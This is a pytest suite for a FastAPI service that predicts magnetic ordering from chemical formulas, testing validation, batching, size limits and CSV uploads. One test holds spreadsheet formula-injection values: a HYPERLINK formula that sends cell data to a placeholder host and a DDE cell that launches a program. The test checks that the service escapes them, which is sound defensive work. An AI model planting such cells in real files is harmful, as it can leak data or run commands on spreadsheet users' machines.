"""The real app through TestClient, serving a real exported SavedModel."""

from __future__ import annotations

import csv
import gzip
import io
import json
import math
import shutil
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from fastapi.testclient import TestClient

from app.core.features import DEFAULT_LIMITS
from app.core.model_card import HEAD_DIRNAMES
from app.core.model_manifest import write_manifest
from app.main import create_app
from tests.conftest import FIXTURE_MODEL_VERSION, make_settings

CLASSES = {"FM", "NM", "FiM", "AFM"}


def _error(response: Any) -> dict[str, Any]:
    body = response.json()
    assert set(body) == {"error"}, body
    assert {"type", "message"} <= set(body["error"]), body
    error: dict[str, Any] = body["error"]
    return error


def test_health_reports_the_loaded_model(client: TestClient) -> None:
    response = client.get("/health")
    assert response.status_code == 200
    assert response.json() == {
        "status": "ok",
        "model_version": FIXTURE_MODEL_VERSION,
        "trained": True,
        "runtime": "litert",
        "max_batch_size": 1000,
        "experiment_model_version": None,
        "density_model_version": None,
    }


def test_head_health_answers_like_get_without_a_body(client: TestClient, model_dir: Path) -> None:
    # Load balancers probe with HEAD; it used to be a 405.
    response = client.head("/health")
    assert response.status_code == 200
    assert response.content == b""
    not_started = TestClient(create_app(make_settings(model_dir)))  # no lifespan: no model
    assert not_started.head("/health").status_code == 503


def test_health_and_predict_are_503_before_the_model_is_loaded(model_dir: Path) -> None:
    not_started = TestClient(create_app(make_settings(model_dir)))  # no `with`: no lifespan
    for response in (
        not_started.get("/health"),
        not_started.post("/predict", json={"formula": "Fe2O3", "density": 5.24}),
    ):
        assert response.status_code == 503
        assert _error(response) == {"type": "model_not_ready", "message": "no model is loaded yet"}


def test_predict_returns_the_four_probabilities(client: TestClient) -> None:
    response = client.post("/predict", json={"formula": "Fe4O6", "density": 5.24})
    assert response.status_code == 200
    body = response.json()
    assert body["formula"] == "Fe4O6"
    assert body["reduced_formula"] == "Fe2O3"
    assert body["model_version"] == FIXTURE_MODEL_VERSION
    assert set(body["probabilities"]) == CLASSES
    assert math.isclose(sum(body["probabilities"].values()), 1.0, abs_tol=1e-5)
    assert body["prediction"] == max(body["probabilities"], key=body["probabilities"].get)
    assert body["warnings"] == []
    assert math.isclose(body["magnetic_probability"], 1 - body["probabilities"]["NM"], abs_tol=1e-6)
    # The fixture is one network without a confidence rule: no members to disagree.
    assert body["member_spread"] is None


def test_hydrate_notations_are_predicted_as_the_hydrate(client: TestClient) -> None:
    answers = [
        client.post("/predict", json={"formula": formula, "density": 2.29}).json()
        for formula in ("CuSO4·5H2O", "CuSO4*5H2O", "CuSO4.5H2O", "CuH10SO9")
    ]
    assert {answer["reduced_formula"] for answer in answers} == {"CuH10SO9"}
    assert len({tuple(answer["probabilities"].values()) for answer in answers}) == 1


@pytest.mark.parametrize("spelling", ["Fe2O3", "O3Fe2", "Fe4O6", "Fe2 O3"])
def test_equivalent_spellings_get_the_same_answer(client: TestClient, spelling: str) -> None:
    reference = client.post("/predict", json={"formula": "Fe2O3", "density": 5.24}).json()
    body = client.post("/predict", json={"formula": spelling, "density": 5.24}).json()
    assert body["probabilities"] == reference["probabilities"]


def test_predict_warns_about_elements_missing_from_training(client: TestClient) -> None:
    body = client.post("/predict", json={"formula": "Gd2O3", "density": 7.4}).json()
    assert body["warnings"] == [
        "element(s) Gd do not occur in the training data; the prediction is an extrapolation"
    ]


@pytest.mark.parametrize(
    ("payload", "error_type", "field", "message"),
    [
        ({"formula": "", "density": 5.0}, "invalid_formula", "formula", "must not be empty"),
        (
            {"formula": "Fe2O3!", "density": 5.0},
            "invalid_formula",
            "formula",
            "invalid formula 'Fe2O3!': character '!' at position 5 is not allowed",
        ),
        ({"formula": "Xx2O", "density": 5.0}, "invalid_formula", "formula", "'Xx'"),
        ({"formula": "X2O", "density": 5.0}, "invalid_formula", "formula", "'X'"),
        ({"formula": "Fe3+", "density": 5.0}, "invalid_formula", "formula", "oxidation states"),
        (
            {"formula": "Fe" * 60, "density": 5.0},
            "invalid_formula",
            "formula",
            f"at most {DEFAULT_LIMITS.max_length} allowed",
        ),
        (
            {"formula": "HHeLiBeBCNOFNeNaMgAl", "density": 5.0},
            "invalid_formula",
            "formula",
            "13 distinct elements",
        ),
        ({"formula": "Fe2O3", "density": 0}, "invalid_density", "density", "greater than 0"),
        ({"formula": "Fe2O3", "density": -2.5}, "invalid_density", "density", "greater than 0"),
        (
            {"formula": "Fe2O3", "density": 1e6},
            "invalid_density",
            "density",
            "above the maximum of 30 g/cm³",
        ),
        # The fixture model has no density estimator to estimate a missing density.
        ({"formula": "Fe2O3"}, "density_required", "density", "density is missing"),
        ({"density": 5.0}, "request_validation_error", "formula", "formula: Field required"),
        (
            {"formula": "Fe2O3", "density": "5.2"},
            "request_validation_error",
            "density",
            "density: Input should be a valid number",
        ),
        (
            {"formula": "Fe2O3", "density": True},
            "request_validation_error",
            "density",
            "density: Input should be a valid number",
        ),
        (
            {"formula": 12, "density": 5.0},
            "request_validation_error",
            "formula",
            "formula: Input should be a valid string",
        ),
        (
            {"formula": "Fe2O3", "density": 5.0, "temperature": 300},
            "request_validation_error",
            "temperature",
            "temperature: Extra inputs are not permitted",
        ),
        ([1, 2], "request_validation_error", "body", "body: should be a JSON object, got an array"),
    ],
)
def test_bad_input_is_a_422_naming_the_problem(
    client: TestClient, payload: Any, error_type: str, field: str, message: str
) -> None:
    response = client.post("/predict", json=payload)
    assert response.status_code == 422
    error = _error(response)
    assert error["type"] == error_type
    assert error["field"] == field
    assert message in error["message"]


@pytest.mark.parametrize(
    ("raw", "message"),
    [
        ('{"formula": "Fe2O3", "density": NaN}', "density must be a finite number"),
        ('{"formula": "Fe2O3", "density": Infinity}', "density must be a finite number"),
        ('{"formula": "Fe2O3", "density": 1e999}', "density must be a finite number"),
        ('{"formula": "Fe2O3", "density": ', "body is not valid JSON"),
        ("", "body: Field required"),
    ],
)
def test_non_finite_numbers_and_broken_json_are_422(
    client: TestClient, raw: str, message: str
) -> None:
    response = client.post("/predict", content=raw, headers={"content-type": "application/json"})
    assert response.status_code == 422
    assert message in _error(response)["message"]


def test_batch_predicts_good_items_and_reports_bad_ones_in_place(client: TestClient) -> None:
    items: list[Any] = [
        {"formula": "NaCl", "density": 2.17},
        {"formula": "Qq", "density": 2.0},
        {"formula": "Fe2O3", "density": -1},
        {"density": "heavy"},
        "not an object",
        {"formula": "Fe2O3", "density": 5.24},
    ]
    response = client.post("/predict/batch", json={"items": items})
    assert response.status_code == 200
    body = response.json()
    assert body["model_version"] == FIXTURE_MODEL_VERSION
    results = body["results"]
    assert [r["index"] for r in results] == list(range(len(items)))
    assert [r["status"] for r in results] == ["ok", "error", "error", "error", "error", "ok"]
    assert results[1]["formula"] == "Qq"
    assert results[1]["error"]["type"] == "invalid_formula"
    assert "'Qq'" in results[1]["error"]["message"]
    assert results[2]["error"]["type"] == "invalid_density"
    assert results[3]["error"]["message"] == (
        "formula: Field required; density: Input should be a valid number"
    )
    assert results[4]["error"]["message"] == "item: should be a JSON object, got a string"
    single = client.post("/predict", json=items[5]).json()
    assert results[5]["probabilities"] == pytest.approx(single["probabilities"], abs=1e-6)


def _post_raw(client: TestClient, path: str, body: bytes) -> Any:
    """POST ``body`` as it is, declared JSON: it may spell what ``json=`` cannot."""
    return client.post(path, content=body, headers={"Content-Type": "application/json"})


def _bad_item_of_two(client: TestClient, body: bytes) -> dict[str, Any]:
    """Send a batch of a bad item then a good one; check that only the first failed, return it."""
    response = _post_raw(client, "/predict/batch", body)
    assert response.status_code == 200
    bad, good = response.json()["results"]
    assert bad["status"] == "error"
    assert good["status"] == "ok"
    result: dict[str, Any] = bad
    return result


def test_a_lone_surrogate_in_a_batch_formula_fails_its_item_alone(client: TestClient) -> None:
    # JSON can spell a lone surrogate, which UTF-8 cannot; echoing it raw was a 500.
    body = b'{"items": [{"formula": "Fe\\ud800O", "density": 5}, {"formula": "NaCl", "density": 2}'
    body += b"]}"
    bad = _bad_item_of_two(client, body)
    assert bad["formula"] == "Fe\\ud800O"  # escaped, as text
    assert bad["error"]["type"] == "invalid_formula"


@pytest.mark.parametrize(
    ("path", "body"),
    [
        ("/predict", b'{"formula": "NiO", "density": 6.67, "\\ud800": 1}'),
        ("/predict/batch", b'{"items": [{"formula": "NiO", "density": 6.67}], "\\ud800": 1}'),
    ],
)
def test_a_lone_surrogate_in_a_json_key_is_a_422_naming_it(
    client: TestClient, path: str, body: bytes
) -> None:
    # The raw key went into the error's field and could not be encoded: a 500.
    response = _post_raw(client, path, body)
    assert response.status_code == 422
    assert "lone surrogate" in _error(response)["message"]


def test_a_lone_surrogate_in_a_batch_items_key_fails_that_item_alone(client: TestClient) -> None:
    body = b'{"items": [{"formula": "NiO", "density": 6.67, "\\ud800": 1}, '
    body += b'{"formula": "NaCl", "density": 2.17}]}'
    assert "lone surrogate" in _bad_item_of_two(client, body)["error"]["message"]


def test_error_bodies_stay_bounded_however_many_problems_a_request_has(
    client: TestClient,
) -> None:
    unknown = {f"unknown_key_{i}": i for i in range(120)}
    single = client.post("/predict", json={"formula": "NiO", "density": 6.67, **unknown})
    assert single.status_code == 422
    error = _error(single)
    assert len(error["details"]) == 5
    assert error["message"].endswith("; and 115 more problems")
    items = [{"formula": "NiO", "density": 6.67, **unknown} for _ in range(200)]
    request = json.dumps({"items": items}).encode()
    batch = _post_raw(client, "/predict/batch", request)
    assert batch.status_code == 200
    # Each item's error lists 5 of its 120 problems: once 16 times the request's size.
    assert len(batch.content) < len(request)


def test_batch_says_where_its_time_went_in_server_timing(client: TestClient) -> None:
    items = [{"formula": "NaCl", "density": 2.17}, {"formula": "Qq", "density": 2.0}]
    response = client.post("/predict/batch", json={"items": items})
    stages = dict(
        part.strip().split(";dur=") for part in response.headers["server-timing"].split(",")
    )
    assert set(stages) == {"featurize", "model"}
    assert all(float(milliseconds) >= 0 for milliseconds in stages.values())


def test_a_batch_of_only_bad_items_calls_no_model(client: TestClient) -> None:
    response = client.post("/predict/batch", json={"items": [{"formula": "Qq", "density": 1}]})
    assert response.status_code == 200
    assert response.json()["results"][0]["status"] == "error"
    assert "model;" not in response.headers["server-timing"]


def test_batch_size_is_capped_by_configuration(model_dir: Path) -> None:
    with TestClient(create_app(make_settings(model_dir, max_batch_size=2))) as small:
        items = [{"formula": "NaCl", "density": 2.17}] * 3
        response = small.post("/predict/batch", json={"items": items})
        assert response.status_code == 422
        assert _error(response) == {
            "type": "batch_too_large",
            "message": "batch has 3 items; at most 2 allowed",
        }
        assert small.post("/predict/batch", json={"items": items[:2]}).status_code == 200


def test_empty_batch_is_422(client: TestClient) -> None:
    response = client.post("/predict/batch", json={"items": []})
    assert response.status_code == 422
    assert "items: List should have at least 1 item" in _error(response)["message"]


def test_model_card_is_served(client: TestClient) -> None:
    card = client.get("/model").json()
    assert card["model_version"] == FIXTURE_MODEL_VERSION
    assert card["trained"] is True
    assert card["classes"] == ["FM", "NM", "FiM", "AFM"]
    assert card["metrics"] == {"macro_f1": 0.5}


def test_markdown_card_of_a_model_without_one_is_a_404(client: TestClient) -> None:
    response = client.get("/model/card")
    assert response.status_code == 404
    error = _error(response)
    assert error["type"] == "model_card_missing"
    assert "MODEL_CARD.md" in error["message"]


def test_a_markdown_card_that_is_not_utf8_is_still_served(model_dir: Path, tmp_path: Path) -> None:
    copy = shutil.copytree(model_dir, tmp_path / "model")
    (copy / "MODEL_CARD.md").write_bytes("# card of Néel temperatures\n".encode("latin-1"))
    write_manifest(copy, HEAD_DIRNAMES)  # sealed with the card, as an export would
    with TestClient(create_app(make_settings(copy))) as client:
        response = client.get("/model/card")
    assert response.status_code == 200  # it was a 500
    assert response.text.startswith("# card of N\ufffdel")


def test_head_on_the_model_routes_answers_like_get_without_a_body(client: TestClient) -> None:
    # They used to be 405s.
    model = client.head("/model")
    assert (model.status_code, model.content) == (200, b"")
    card = client.head("/model/card")  # the fixture model has no card: 404, as GET
    assert (card.status_code, card.content) == (404, b"")
    assert card.headers["content-type"] == "application/json"


@pytest.mark.parametrize("path", ["/docs", "/openapi.json", "/model", "/health", "/"])
def test_head_answers_every_get_route_with_its_headers(client: TestClient, path: str) -> None:
    # HEAD /docs was a 405.
    get, head = client.get(path), client.head(path)
    assert head.status_code == get.status_code == 200
    assert head.content == b""
    assert head.headers["content-type"] == get.headers["content-type"]
    assert head.headers["content-length"] == str(len(get.content))


def test_head_on_a_post_route_is_405_with_its_allow_header(client: TestClient) -> None:
    response = client.head("/predict")
    assert response.status_code == 405
    assert "POST" in response.headers["allow"]


def test_unknown_routes_and_methods_get_json_errors(client: TestClient) -> None:
    assert _error(client.get("/nowhere")) == {"type": "http_error", "message": "Not Found"}
    response = client.get("/predict")
    assert response.status_code == 405
    assert _error(response)["message"] == "Method Not Allowed"


def test_docs_are_served_without_internet(client: TestClient) -> None:
    page = client.get("/docs")
    assert page.status_code == 200
    assert "cdn" not in page.text.lower()
    for asset in ("swagger-ui-bundle.js", "swagger-ui.css"):
        assert f"/static-offline-docs/{asset}" in page.text
        assert client.get(f"/static-offline-docs/{asset}").status_code == 200


def test_openapi_documents_examples_and_error_bodies(client: TestClient) -> None:
    schema = client.get("/openapi.json").json()
    predict = schema["paths"]["/predict"]["post"]
    assert set(predict["responses"]) >= {"200", "422", "503"}
    compound = schema["components"]["schemas"]["CompoundIn"]
    assert compound["examples"] == [{"formula": "Fe2O3", "density": 5.24}]


def test_formula_limits_come_from_the_settings(model_dir: Path) -> None:
    settings = make_settings(model_dir, max_formula_length=10, max_formula_elements=2)
    with TestClient(create_app(settings)) as strict:
        long = strict.post("/predict", json={"formula": "Fe2O3Fe2O3Fe", "density": 5.0})
        assert long.status_code == 422
        assert "12 characters long; at most 10 allowed" in _error(long)["message"]
        ternary = strict.post("/predict", json={"formula": "BaTiO3", "density": 6.0})
        assert "3 distinct elements; at most 2 allowed" in _error(ternary)["message"]
        batch = strict.post("/predict/batch", json={"items": [{"formula": "BaTiO3", "density": 6}]})
        assert batch.json()["results"][0]["error"]["type"] == "invalid_formula"
        assert strict.post("/predict", json={"formula": "Fe2O3", "density": 5.0}).status_code == 200


@pytest.fixture(scope="module")
def small_body_client(model_dir: Path) -> Iterator[TestClient]:
    with TestClient(create_app(make_settings(model_dir, max_body_bytes=1024))) as test_client:
        yield test_client


def test_a_declared_oversized_body_is_refused_before_it_is_read(
    small_body_client: TestClient,
) -> None:
    items = [{"formula": "NaCl", "density": 2.17}] * 100
    response = small_body_client.post("/predict/batch", json={"items": items})
    assert response.status_code == 413
    assert _error(response) == {
        "type": "http_error",
        "message": "request body is larger than 1024 bytes",
    }


def test_an_oversized_streamed_body_is_cut_off(small_body_client: TestClient) -> None:
    chunks = (b'{"items": [' + b'{"formula": "NaCl", "density": 2.17},' * 20 for _ in range(5))
    response = small_body_client.post(
        "/predict/batch", content=chunks, headers={"content-type": "application/json"}
    )
    assert response.status_code == 413
    assert _error(response)["message"] == "request body is larger than 1024 bytes"


def test_a_body_under_the_limit_is_served(small_body_client: TestClient) -> None:
    response = small_body_client.post("/predict", json={"formula": "NaCl", "density": 2.17})
    assert response.status_code == 200


_JSON = {"content-type": "application/json"}
_FE2O3 = b'{"formula": "Fe2O3", "density": 5.24}'


@pytest.mark.parametrize(
    ("headers", "field", "message"),
    [
        (
            {"content-type": "application/x-www-form-urlencoded"},  # what plain curl -d sends
            "Content-Type",
            "Content-Type must be application/json, got 'application/x-www-form-urlencoded'",
        ),
        ({}, "Content-Type", "Content-Type must be application/json, got none"),
        ({"content-type": "text/plain"}, "Content-Type", "got 'text/plain'"),
        (
            {"content-type": "application/json; charset=latin-1"},
            "Content-Type",
            "charset 'latin-1' is not supported; send the body as UTF-8",
        ),
        (
            {**_JSON, "content-encoding": "gzip"},
            "Content-Encoding",
            "Content-Encoding 'gzip' is not supported; send the JSON body uncompressed",
        ),
    ],
)
def test_a_body_not_declared_as_json_is_a_415_naming_the_header(
    client: TestClient, headers: dict[str, str], field: str, message: str
) -> None:
    for path in ("/predict", "/predict/batch"):
        response = client.post(path, content=_FE2O3, headers=headers)
        assert response.status_code == 415
        error = _error(response)
        assert error["type"] == "unsupported_media_type"
        assert error["field"] == field
        assert message in error["message"]


@pytest.mark.parametrize(
    "content_type",
    ["application/json", "application/json; charset=UTF-8", "application/merge-patch+json"],
)
def test_json_content_types_are_accepted(client: TestClient, content_type: str) -> None:
    response = client.post("/predict", content=_FE2O3, headers={"content-type": content_type})
    assert response.status_code == 200


@pytest.mark.parametrize(
    ("body", "message"),
    [
        pytest.param(
            gzip.compress(_FE2O3),
            "request body is not UTF-8 JSON: byte 0x8b at position 1 is not UTF-8 "
            "(it looks gzip-compressed; send it uncompressed)",
            id="gzip",
        ),
        pytest.param(
            '{"formula": "Fe2O3", "density": 5.24, "note": "é"}'.encode("latin-1"),
            "request body is not UTF-8 JSON: byte 0xe9 at position 47 is not UTF-8",
            id="latin-1",
        ),
    ],
)
def test_a_body_that_is_not_utf8_is_a_400_saying_so(
    client: TestClient, body: bytes, message: str
) -> None:
    response = client.post("/predict", content=body, headers=_JSON)
    assert response.status_code == 400
    assert _error(response) == {"type": "invalid_encoding", "message": message}


def test_a_leading_byte_order_mark_is_ignored(client: TestClient) -> None:
    response = client.post("/predict", content=b"\xef\xbb\xbf" + _FE2O3, headers=_JSON)
    assert response.status_code == 200


@pytest.mark.parametrize(
    ("path", "body", "key"),
    [
        ("/predict", '{"formula": "Fe2O3", "formula": "NaCl", "density": 5.24}', "formula"),
        (
            "/predict/batch",
            '{"items": [{"formula": "NiO", "density": 6.67}, {"formula": "NiO", "density": 6.67}],'
            ' "items": [{"formula": "NaCl", "density": 2.17}]}',
            "items",
        ),
        (
            "/predict/batch",
            '{"items": [{"formula": "NiO", "density": 6.67, "density": 1.0}]}',
            "density",
        ),
    ],
)
def test_a_repeated_json_key_is_a_422_naming_it(
    client: TestClient, path: str, body: str, key: str
) -> None:
    response = client.post(path, content=body, headers=_JSON)
    assert response.status_code == 422
    assert _error(response) == {
        "type": "duplicate_key",
        "message": f"key '{key}' appears more than once in one JSON object; send each key once",
        "field": key,
    }


def test_json_nested_too_deeply_is_a_422_saying_so(client: TestClient) -> None:
    response = client.post("/predict", content="[" * 100_000 + "]" * 100_000, headers=_JSON)
    assert response.status_code == 422
    assert _error(response) == {
        "type": "json_too_deep",
        "message": "JSON body is nested too deeply to read; a request needs three levels at most",
    }


def test_capitals_that_spell_a_symbol_warn_in_the_answer(client: TestClient) -> None:
    body = client.post("/predict", json={"formula": "NIO", "density": 6.67}).json()
    assert body["reduced_formula"] == "INO"
    assert any("if you meant Ni, write 'Ni'" in w for w in body["warnings"])


@pytest.mark.parametrize("path", ["/predict", "/predict/batch", "/predict/structure"])
def test_an_integer_too_long_for_python_is_a_422_saying_so(client: TestClient, path: str) -> None:
    body = '{"formula": "Fe2O3", "density": ' + "1" * 5000 + "}"
    response = client.post(path, content=body, headers={"content-type": "application/json"})
    assert response.status_code == 422
    assert response.json()["error"]["type"] == "number_too_long"


# POST /predict/table: its limits, its names and what it writes into a spreadsheet.


def _table_rows(response: Any) -> list[dict[str, str]]:
    assert response.status_code == 200, response.text
    return list(csv.DictReader(io.StringIO(response.text)))


def test_a_table_over_the_row_cap_is_refused_before_any_row_is_screened(model_dir: Path) -> None:
    with TestClient(create_app(make_settings(model_dir, max_table_rows=3))) as small:
        four = "formula,density\n" + "NaCl,2.17\n" * 4
        response = small.post("/predict/table", files={"file": ("big.csv", four.encode())})
        assert response.status_code == 422
        assert _error(response) == {
            "type": "too_many_rows",
            "message": "the file has more than 3 rows, the most one upload may screen; split "
            "it, or screen it with the magorder predict command",
            "field": "file",
        }
        three = "formula,density\n" + "NaCl,2.17\n" * 3
        ok = small.post("/predict/table", files={"file": ("ok.csv", three.encode())})
        assert len(_table_rows(ok)) == 3


def test_table_screenings_beyond_the_cap_are_503_with_retry_after(model_dir: Path) -> None:
    from app.api.routes.table import table_streams

    with TestClient(create_app(make_settings(model_dir, max_table_streams=1))) as small:
        upload = {"file": ("c.csv", b"formula,density\nNaCl,2.17\n")}
        held = table_streams(small.app, 1).claim()  # type: ignore[arg-type]
        busy = small.post("/predict/table", files=upload)
        assert busy.status_code == 503
        assert busy.headers["retry-after"] == "1"
        assert _error(busy) == {
            "type": "server_busy",
            "message": "the server is screening 1 tables, its most at once; retry shortly",
        }
        held.release()
        for _ in range(3):  # each screening gives its place back, refused ones included
            assert len(_table_rows(small.post("/predict/table", files=upload))) == 1
            bad = small.post("/predict/table", files={"file": ("x.csv", b"name\nNiO\n")})
            assert bad.status_code == 422


def test_uploads_sharing_a_name_are_each_screened_with_their_own_content(
    client: TestClient,
) -> None:
    from tests.test_structures import rock_salt

    salt = rock_salt(5.64, "Na", "Cl").to(fmt="poscar")
    nio = rock_salt().to(fmt="poscar")
    names = ["POSCAR", "POSCAR", "./POSCAR", "a//POSCAR"]
    texts = [salt, nio, nio, salt]
    files = [("files", (name, text)) for name, text in zip(names, texts, strict=True)]
    rows = _table_rows(client.post("/predict/table", files=files))
    # The names as uploaded (once a KeyError for ./POSCAR), each with its own structure.
    assert [r["file"] for r in rows] == names
    assert [r["reduced_formula"] for r in rows] == ["NaCl", "NiO", "NiO", "NaCl"]
    assert all(r["error"] == "" for r in rows)


def test_table_cells_a_spreadsheet_would_run_come_back_as_text(client: TestClient) -> None:
    text = (
        "id,formula,density,note,energy\n"
        '"=HYPERLINK(""http://x.invalid/?a=""&A1,""x"")",NaCl,2.17,"+cmd|\' /C calc\'!A0",-1.5\n'
        "@SUM(1),=1+1,2.17,\tx,+2e3\n"
    )
    rows = _table_rows(client.post("/predict/table", files={"file": ("c.csv", text.encode())}))
    assert rows[0]["id"] == '\'=HYPERLINK("http://x.invalid/?a="&A1,"x")'
    assert rows[0]["note"] == "'+cmd|' /C calc'!A0"
    assert rows[1]["id"] == "'@SUM(1)"
    assert rows[1]["formula"] == "'=1+1"
    assert rows[1]["note"] == "'\tx"
    # Numbers stay numbers, the input's own and the probabilities alike.
    assert [r["energy"] for r in rows] == ["-1.5", "+2e3"]
    assert float(rows[0]["p_FM"]) >= 0
    # The error echoes the formula inside its text: it does not begin a cell with "=".
    assert rows[1]["error"].startswith("invalid formula '=1+1'")
    files = [("files", ("=cmd.cif", "data_junk\n")), ("files", ("@x.cif", "data_junk\n"))]
    named = _table_rows(client.post("/predict/table", files=files))
    assert [r["file"] for r in named] == ["'=cmd.cif", "'@x.cif"]


def test_a_screening_that_fails_midway_ends_with_a_row_saying_it_stopped(
    model_dir: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from app.api.routes.table import STOPPED_PREFIX
    from app.core.backend import LocalBackend

    predict = LocalBackend.predict
    calls = []

    def fail_second_chunk(self: LocalBackend, queries: Any) -> Any:
        calls.append(len(queries))
        if len(calls) == 2:
            raise RuntimeError("the parser fell over")
        return predict(self, queries)

    monkeypatch.setattr(LocalBackend, "predict", fail_second_chunk)
    settings = make_settings(model_dir, max_batch_size=2, max_table_streams=1)
    with TestClient(create_app(settings)) as small:
        text = "id,formula,density\n" + "".join(f"c{i},NaCl,2.17\n" for i in range(5))
        response = small.post("/predict/table", files={"file": ("c.csv", text.encode())})
        rows = _table_rows(response)
        assert [r["id"] for r in rows] == ["c0", "c1", ""]
        assert all(r["prediction"] for r in rows[:2])
        assert rows[2]["error"].startswith(f"{STOPPED_PREFIX} an internal error")
        assert set(rows[2].values()) == {"", rows[2]["error"]}
        # Its place in the pool came back: the next screening is not refused as busy.
        monkeypatch.setattr(LocalBackend, "predict", predict)
        again = small.post("/predict/table", files={"file": ("c.csv", text.encode())})
        assert len(_table_rows(again)) == 5
